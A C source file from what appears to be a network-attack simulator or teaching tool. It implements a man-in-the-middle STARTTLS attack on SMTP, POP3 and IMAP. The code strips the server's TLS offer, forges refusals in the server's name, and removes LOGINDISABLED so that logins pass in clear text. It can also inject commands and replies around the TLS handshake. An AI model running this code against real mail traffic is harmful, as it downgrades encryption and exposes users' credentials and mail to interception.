/* SPDX-License-Identifier: GPL-3.0-or-later */
/* starttls.c -- what an attacker on the path does to a dialogue before TLS begins.
 *
 * Lines are changed while both speak clear text. The editing ends, and all passes as it is, when
 * the client begins to log in or to send mail (a message may hold any line), when TLS has begun, or
 * when a line is endless. An answer of EHLO is gathered whole, because the line that ends it may be
 * the one that goes. RFC 3207, 2595, 9051 6.2.1. */
#include "sim/attack/starttls.h"

#include <string.h>

#include "capture/wire/lang.h"
#include "capture/wire/mail.h"

static const struct {
  const char *verb;    /* by which a client asks for TLS */
  const char *refusal; /* in the server's name; IMAP: behind the tag */
  const char *stops;   /* verbs behind which nothing is changed any more */
} protocols[STARTTLS_N_PROTOCOLS] = {
    [STARTTLS_SMTP] = {"STARTTLS", "454 4.7.0 TLS not available due to temporary reason\r\n",
                       " AUTH MAIL DATA BDAT "},
    [STARTTLS_POP3] = {"STLS", "-ERR Command not permitted\r\n", " USER APOP AUTH "},
    [STARTTLS_IMAP] = {"STARTTLS", "BAD Unknown command\r\n", " LOGIN AUTHENTICATE "},
};

void
starttls_init(struct starttls *s)
{
  s->from_client = g_string_new(NULL);
  s->from_server = g_string_new(NULL);
  s->reply = g_string_new(NULL);
  s->tag = g_string_new(NULL);
  s->is_over = s->has_asked = false;
}

void
starttls_clear(struct starttls *s)
{
  g_string_free(s->from_client, TRUE);
  g_string_free(s->from_server, TRUE);
  g_string_free(s->reply, TRUE);
  g_string_free(s->tag, TRUE);
}

bool
starttls_protocol_of(uint16_t port, enum starttls_protocol *out)
{
  static const struct {
    uint16_t port;
    enum starttls_protocol protocol;
  } ports[] = {
      {25, STARTTLS_SMTP}, {587, STARTTLS_SMTP}, {110, STARTTLS_POP3}, {143, STARTTLS_IMAP}};
  for (size_t i = 0; i < G_N_ELEMENTS(ports); i++) {
    if (ports[i].port == port) {
      *out = ports[i].protocol;
      return true;
    }
  }
  return false;
}

static void
tell(struct starttls *s, struct lang_pair what)
{
  if (s->told)
    s->told(s->data, lang_pick(what));
}

static void
put(GByteArray *out, const char *text, size_t n)
{
  g_byte_array_append(out, (const guint8 *)text, (guint)n);
}

/* ---- words of a line ---- */

/* The n-th word of a line, 0-based, in upper case; "" when there is none. */
static char *
word_of(const char *line, size_t n, unsigned index)
{
  size_t at = 0;
  for (;; index--) {
    size_t end = at;
    while (end < n && !strchr(" \r\n", line[end]))
      end++;
    if (index == 0)
      return g_ascii_strup(line + at, (gssize)(end - at));
    while (end < n && line[end] == ' ')
      end++;
    if (end >= n || end == at)
      return g_strdup("");
    at = end;
  }
}

static char *
verb_of(const struct starttls *s, const char *line, size_t n)
{
  return word_of(line, n, s->protocol == STARTTLS_IMAP ? 1 : 0);
}

/* ---- the client's lines ---- */

static void
client_asks(struct starttls *s, const char *line, size_t n, GByteArray *to_server,
            GByteArray *to_client)
{
  size_t n_tag = strcspn(line, " \r\n");
  g_string_truncate(s->tag, 0);
  g_string_append_len(s->tag, line, (gssize)MIN(n_tag, n));
  if (s->attack == STARTTLS_STRIP) {
    if (s->protocol == STARTTLS_IMAP) {
      put(to_client, s->tag->str, s->tag->len);
      put(to_client, " ", 1);
    }
    put(to_client, protocols[s->protocol].refusal, strlen(protocols[s->protocol].refusal));
    tell(s, lang_pair("the client asked for TLS; it was refused in the server's name",
                      "ไคลเอนต์ขอ TLS แต่ถูกปฏิเสธโดยแอบอ้างเป็นเซิร์ฟเวอร์"));
    return;
  }
  s->has_asked = true;
  put(to_server, line, n);
  if (s->commands) {
    put(to_server, s->commands, strlen(s->commands));
    tell(s, lang_pair("commands were slipped in behind the client's request for TLS",
                      "แทรกคำสั่งต่อท้ายคำขอ TLS ของไคลเอนต์"));
  }
}

static void
client_line(struct starttls *s, const char *line, size_t n, GByteArray *to_server,
            GByteArray *to_client)
{
  g_autofree char *verb = verb_of(s, line, n);
  g_autofree char *padded = g_strdup_printf(" %s ", verb);
  if (strcmp(verb, protocols[s->protocol].verb) == 0) {
    client_asks(s, line, n, to_server, to_client);
    return;
  }
  s->is_over |= *verb && strstr(protocols[s->protocol].stops, padded);
  put(to_server, line, n);
}

/* ---- the server's lines: strip ---- */

/* "250-STARTTLS" or "250 STARTTLS". */
static bool
is_smtp_offer(const char *line, size_t n)
{
  g_autofree char *word = n > 4 ? word_of(line + 4, n - 4, 0) : g_strdup("");
  return n > 4 && strncmp(line, "250", 3) == 0 && strcmp(word, "STARTTLS") == 0;
}

/* The answer is complete: the last line that stays ends it. */
static void
put_reply(struct starttls *s, GByteArray *to_client)
{
  char *last = NULL;
  for (char *line = s->reply->str; *line;) {
    last = line;
    char *end = strchr(line, '\n');
    line = end ? end + 1 : line + strlen(line);
  }
  if (last && strlen(last) > 3)
    last[3] = ' ';
  put(to_client, s->reply->str, s->reply->len);
  g_string_truncate(s->reply, 0);
}

static void
smtp_line(struct starttls *s, const char *line, size_t n, GByteArray *to_client)
{
  bool is_part = n > 3 && strncmp(line, "250", 3) == 0 && !memchr(line, '\0', n);
  if (!is_part || s->reply->len > STARTTLS_LINE_MAX) {
    put(to_client, s->reply->str, s->reply->len);
    g_string_truncate(s->reply, 0);
    put(to_client, line, n);
    return;
  }
  if (is_smtp_offer(line, n))
    tell(s, lang_pair("the server's offer of STARTTLS was taken out",
                      "ลบข้อเสนอ STARTTLS ของเซิร์ฟเวอร์ออก"));
  else
    g_string_append_len(s->reply, line, (gssize)n);
  if (line[3] != '-')
    put_reply(s, to_client);
}

static void
pop_line(struct starttls *s, const char *line, size_t n, GByteArray *to_client)
{
  g_autofree char *word = word_of(line, n, 0);
  if (strcmp(word, "STLS") == 0)
    tell(s, lang_pair("the server's offer of STLS was taken out", "ลบข้อเสนอ STLS ของเซิร์ฟเวอร์ออก"));
  else
    put(to_client, line, n);
}

/* Without the word and the space before it; true when it was there. */
static bool
remove_word(GString *line, const char *word)
{
  char *at = strstr(line->str, word);
  if (!at)
    return false;
  g_string_erase(line, at - line->str, (gssize)strlen(word));
  return true;
}

/* LOGINDISABLED goes too: the client is to log in, in clear. */
static void
imap_line(struct starttls *s, const char *line, size_t n, GByteArray *to_client)
{
  g_autoptr(GString) text = g_string_new_len(line, (gssize)n);
  if (strstr(text->str, "CAPABILITY ") && remove_word(text, " STARTTLS")) {
    remove_word(text, " LOGINDISABLED");
    tell(s, lang_pair("the server's offer of STARTTLS was taken out",
                      "ลบข้อเสนอ STARTTLS ของเซิร์ฟเวอร์ออก"));
  }
  put(to_client, text->str, text->len);
}

/* ---- the server's lines: inject ---- */

/* Does the line answer the request for TLS, and how? IMAP may say untagged things before. */
static bool
is_answer(const struct starttls *s, const char *line, size_t n, bool *is_go_ahead)
{
  g_autofree char *first = word_of(line, n, 0);
  g_autofree char *second = word_of(line, n, 1);
  g_autofree char *tag = g_ascii_strup(s->tag->str, -1);
  switch (s->protocol) {
  case STARTTLS_SMTP:
    *is_go_ahead = strcmp(first, "220") == 0;
    return n < 4 || line[3] != '-';
  case STARTTLS_POP3:
    *is_go_ahead = strcmp(first, "+OK") == 0;
    return true;
  default:
    *is_go_ahead = strcmp(second, "OK") == 0;
    return strcmp(first, tag) == 0;
  }
}

static void
inject_line(struct starttls *s, const char *line, size_t n, GByteArray *to_client)
{
  bool is_go_ahead;
  put(to_client, line, n);
  if (!s->has_asked || !is_answer(s, line, n, &is_go_ahead))
    return;
  s->is_over = true; /* TLS follows, or the refusal of it */
  if (s->replies && is_go_ahead) {
    put(to_client, s->replies, strlen(s->replies));
    tell(s, lang_pair("replies were slipped in behind the server's go-ahead for TLS",
                      "แทรกคำตอบต่อท้ายคำตอบเริ่ม TLS ของเซิร์ฟเวอร์"));
  }
}

/* ---- streams ---- */

/* The next whole line of `held`, which is taken from it; NULL when there is none. */
static GString *
take_line(GString *held)
{
  const char *end = held->len ? memchr(held->str, '\n', held->len) : NULL;
  if (!end)
    return NULL;
  gssize n = end - held->str + 1;
  GString *line = g_string_new_len(held->str, n);
  g_string_erase(held, 0, n);
  return line;
}

/* Nothing is held back any more. */
static void
let_go(struct starttls *s, GString *held, GByteArray *out)
{
  s->is_over |= held->len > STARTTLS_LINE_MAX;
  if (!s->is_over)
    return;
  put(out, held->str, held->len);
  g_string_truncate(held, 0);
}

void
starttls_from_client(struct starttls *s, const uint8_t *p, size_t n, GByteArray *to_server,
                     GByteArray *to_client)
{
  g_string_append_len(s->from_client, (const char *)p, (gssize)n);
  bool may_edit = !s->is_over && !s->has_asked;
  while (may_edit) {
    g_autoptr(GString) line = take_line(s->from_client);
    if (!line)
      break;
    client_line(s, line->str, line->len, to_server, to_client);
    may_edit = !s->is_over && !s->has_asked;
  }
  if (s->has_asked) {
    put(to_server, s->from_client->str, s->from_client->len);
    g_string_truncate(s->from_client, 0);
  }
  let_go(s, s->from_client, to_server);
}

void
starttls_from_server(struct starttls *s, const uint8_t *p, size_t n, GByteArray *to_client)
{
  static void (*const strip[STARTTLS_N_PROTOCOLS])(struct starttls *, const char *, size_t,
                                                   GByteArray *) = {
      [STARTTLS_SMTP] = smtp_line, [STARTTLS_POP3] = pop_line, [STARTTLS_IMAP] = imap_line};
  g_string_append_len(s->from_server, (const char *)p, (gssize)n);
  while (!s->is_over) {
    g_autoptr(GString) line = take_line(s->from_server);
    if (!line)
      break;
    if (s->attack == STARTTLS_STRIP)
      strip[s->protocol](s, line->str, line->len, to_client);
    else
      inject_line(s, line->str, line->len, to_client);
  }
  if (s->is_over) {
    put(to_client, s->reply->str, s->reply->len);
    g_string_truncate(s->reply, 0);
  }
  let_go(s, s->from_server, to_client);
}
